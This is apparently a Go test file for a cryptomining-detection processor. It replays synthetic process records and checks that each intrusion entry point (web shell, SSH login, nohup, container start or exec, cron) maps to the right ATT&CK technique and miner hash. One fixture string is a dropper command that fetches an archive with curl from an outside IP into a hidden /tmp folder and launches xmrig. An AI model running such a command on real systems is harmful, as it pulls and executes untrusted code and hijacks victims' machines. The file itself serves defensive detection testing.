package cryptochainprocessor

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Hashes the exec records of the entry-point scenarios carry (cryptochain.process.executable.hash.sha256).
const (
	xmrigSHA256 = "9f2c1b7e4a0d3c5b8e6f1a2d4c7b0e3f5a8d1c4b7e0a3f6d9c2b5e8a1d4c7b0e"
	shSHA256    = "1d9a4b7c0e3f6a9d2c5b8e1f4a7d0c3b6e9f2a5d8c1b4e7a0d3f6c9b2e5a8d1c"
)

func withHash(r rec, h string) rec {
	r.attrs["cryptochain.process.executable.hash.sha256"] = h
	return r
}

// entryPointScenarios start a chain in each way the finding's entry point tells apart: a shell of a
// web server (service_shell), a login whose miner carries its executable's hash, a new container,
// and a command run inside an existing container. Cron is cron_respawn_linked, a login's daemonized
// child critical_parent_session_nohup_miner.
func entryPointScenarios() []scenario {
	var s []scenario
	// php-fpm (pid 1050) runs a shell that downloads and starts the miner.
	web := []int64{1050, 1}
	dropper := "curl -s http://198.51.100.7/x | tar xz -C /tmp/.x && /tmp/.x/xmrig -o stratum+tcp://" + pool + ":3333 -u " + wallet
	webMiner := "/tmp/.x/xmrig"
	s = append(s, scenario{"entry_service_shell_web_server", []rec{
		withHash(exec("service_shell:30", 0, 1100, web, "/bin/dash", "sh", "-c", dropper), shSHA256),
		withHash(exec("service_shell:30", time.Second, 1101, []int64{1100, 1050, 1}, webMiner,
			webMiner, "-o", "stratum+tcp://"+pool+":3333", "-u", wallet), xmrigSHA256),
		dnsQuery("service_shell:30", time.Second+100*time.Millisecond, 1101, []int64{1100, 1050, 1}, webMiner, pool),
	}})

	// A login session's miner: its exec carries the executable's hash; a malformed hash elsewhere is ignored.
	login := minerRun("ssh:31", 0)
	login[0] = withHash(login[0], xmrigSHA256)
	login[1].attrs["cryptochain.process.executable.hash.sha256"] = "not a hash"
	s = append(s, scenario{"entry_login_session_miner_hash", login})

	// A login whose miner was started with nohup: a daemonized context opened from the login session.
	daemon := func(r rec) rec { r.parent = "login_session:35"; return r }
	nohupRun := []rec{}
	for _, r := range minerRun("daemonized:36", 0) {
		nohupRun = append(nohupRun, daemon(r))
	}
	s = append(s, scenario{"entry_login_session_nohup_daemonized", nohupRun})

	// A container started with the miner as its first process: a cgroup context with an image.
	image := map[string]string{"container.id": "5f0e1c2a9b8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f",
		"container.image.name": "docker.io/library/alpine-miner:3.19"}
	inCont := func(r rec) rec { r.res = image; r.parent = "systemd:37"; return r } // podman run from a service
	cont := []rec{}
	for _, r := range minerRun("cgroup:32", 0) {
		cont = append(cont, inCont(r))
	}
	s = append(s, scenario{"entry_container_started_with_miner", cont})

	// kubectl/podman exec into a running web container: the miner runs in a container_exec context
	// opened from the container's cgroup context.
	execIn := func(r rec) rec { r.res = image; r.parent = "cgroup:33"; return r }
	cexec := []rec{}
	for _, r := range minerRun("container_exec:34", 0) {
		cexec = append(cexec, execIn(r))
	}
	s = append(s, scenario{"entry_container_exec", cexec})
	return s
}

// TestEntryPoints checks, on the replayed findings, what each way in is inferred to be and that a
// miner's hash reaches the finding while a shell's and a malformed one do not.
func TestEntryPoints(t *testing.T) {
	want := map[string]struct{ kinds, technique, sha string }{
		"entry_service_shell_web_server":       {"service_shell", "T1190", xmrigSHA256},
		"entry_login_session_miner_hash":       {"login_session", "T1078", xmrigSHA256},
		"entry_login_session_nohup_daemonized": {"daemonized,login_session", "T1078", ""},
		"entry_container_started_with_miner":   {"cgroup,systemd", "T1610", ""},
		"entry_container_exec":                 {"container_exec,cgroup", "T1609", ""},
		"cron_respawn_linked":                  {"cron", "T1053.003", ""},
	}
	for _, sc := range scenarios() {
		w, ok := want[sc.name]
		if !ok {
			continue
		}
		t.Run(sc.name, func(t *testing.T) {
			got := replay(t, stream(sc.recs))
			require.Positive(t, got.ResourceLogs().Len())
			lr := got.ResourceLogs().At(got.ResourceLogs().Len() - 1).ScopeLogs().At(0).LogRecords().At(0)
			ep, ok := lr.Attributes().Get("cryptochain.finding.entry_point")
			require.True(t, ok)
			m := ep.Map()
			var kinds []string
			ks, _ := m.Get("context.kinds")
			for i := 0; i < ks.Slice().Len(); i++ {
				kinds = append(kinds, ks.Slice().At(i).Str())
			}
			assert.Equal(t, w.kinds, strings.Join(kinds, ","))
			tech, _ := m.Get("initial_access.technique.id")
			assert.Equal(t, w.technique, tech.Str())
			inf, _ := m.Get("initial_access.inferred")
			assert.True(t, inf.Bool())
			sha, ok := lr.Attributes().Get("cryptochain.response.miner_sha256")
			if w.sha == "" {
				assert.False(t, ok)
			} else {
				require.True(t, ok)
				assert.Equal(t, []any{w.sha}, sha.Slice().AsRaw())
			}
		})
	}
}
